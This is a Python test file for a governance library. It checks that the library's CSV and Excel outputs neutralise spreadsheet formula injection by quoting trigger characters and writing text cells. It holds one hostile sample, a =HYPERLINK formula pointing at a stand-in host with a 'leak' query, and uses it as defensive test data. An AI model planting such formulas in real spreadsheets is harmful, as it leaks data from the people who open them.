"""Spreadsheets the library writes cannot run what a file put in them (E-1..E-6).

An id such as ``=HYPERLINK("http://…","x")`` passes every id check (it hides nothing); it
must reach the office's spreadsheet as text. CSV cells that a spreadsheet would run get a
leading quote (OWASP), which the readers take off again; workbook cells are text cells.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, strategies as st

from community_governance.cli import EXIT_OK
from community_governance.tables.cells import TRIGGERS, neutralised, restored
from tests.cli.shell import run

#: A formula that passes the id checks (no comma: a list of responsible units splits at commas).
HOSTILE = '=HYPERLINK("http://example.invalid/?leak")'
#: The demo's unit given the hostile id.
RENAMED = "clinic"


def _renamed(exported: Path, target: Path) -> Path:
    """The demo's CSV export with the unit ``clinic`` renamed ``HOSTILE`` in every table."""
    folder = Path(shutil.copytree(exported / "csv", target))
    for path in folder.glob("*.csv"):
        text = path.read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        renamed = [
            [";".join(HOSTILE if p == RENAMED else p for p in cell.split(";")) for cell in row]
            for row in rows
        ]
        out = io.StringIO(newline="")
        csv.writer(out, lineterminator="\r\n").writerows(renamed)
        path.write_text(out.getvalue(), encoding="utf-8")
    return folder


def test_a_formula_like_id_is_text_in_every_spreadsheet_result(
    exported: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """E-1..E-6: the CSV result quotes it, the workbook holds it as a text cell, exactly."""
    folder = _renamed(exported, tmp_path / "csv")
    ratings, survey = str(folder / "ratings.csv"), str(folder / "survey.csv")
    code, out, err = run(capsys, "evaluate", ratings, survey, "--format", "csv")
    assert code == EXIT_OK, err
    cells = {row[1]: row for row in csv.reader(io.StringIO(out))}
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    book = tmp_path / "result.xlsx"
    code, _, err = run(capsys, "evaluate", ratings, survey, "--format", "xlsx", "--out", str(book))
    assert code == EXIT_OK, err
    sheet = openpyxl.load_workbook(book).worksheets[0]
    written = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in written] == ["s"] * len(written)
    assert HOSTILE in [c.value for c in written]


def test_a_template_copies_a_formula_like_id_as_text(
    exported: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """E-2, E-3: ``template ratings --units`` lists the id in its sheets, never as a formula."""
    folder = _renamed(exported, tmp_path / "csv")
    out = tmp_path / "ratings.xlsx"
    code, _, err = run(
        capsys, "template", "ratings", "--units", str(folder / "units.csv"), "--out", str(out)
    )
    assert code == EXIT_OK, err
    book = openpyxl.load_workbook(out)
    holding = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert holding
    assert {cell.data_type for cell in holding} == {"s"}
    assert {cell.value for cell in holding} == {HOSTILE}


def test_a_csv_result_with_a_quoted_id_reads_back_as_the_id(
    exported: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """E-1..E-6: a table the library wrote (quote added) evaluates to the same result."""
    folder = _renamed(exported, tmp_path / "csv")
    quoted = tmp_path / "quoted"
    shutil.copytree(folder, quoted)
    for path in quoted.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        text = io.StringIO(newline="")
        csv.writer(text).writerows([[neutralised(c) for c in row] for row in rows])
        path.write_text(text.getvalue(), encoding="utf-8")
    assert "'" + HOSTILE.replace('"', '""') in (quoted / "units.csv").read_text(encoding="utf-8")
    results = []
    for where in (folder, quoted):
        code, out, err = run(
            capsys, "evaluate", str(where / "ratings.csv"), str(where / "survey.csv"),
            "--format", "json",
        )  # fmt: skip
        assert code == EXIT_OK, err
        results.append(json.loads(out))
    assert results[0] == results[1]
    assert json.dumps(HOSTILE)[1:-1] in json.dumps(results[0], ensure_ascii=False)


@given(st.text(max_size=12))
def test_a_neutralised_cell_reads_back_and_never_begins_a_formula(text: str) -> None:
    """E-1: quoting is undone on reading, and a quoted cell starts with no trigger."""
    written = neutralised(text)
    assert restored(written) == text
    assert not written.startswith(TRIGGERS) or written.lstrip("+-").replace(".", "").isdigit()


@pytest.mark.parametrize("number", ["-5", "+1.25", "-0.5", "12"])
def test_plain_numbers_are_left_as_they_are(number: str) -> None:
    """E-2: a negative or signed number is a number, not a formula; it is not quoted."""
    assert neutralised(number) == number
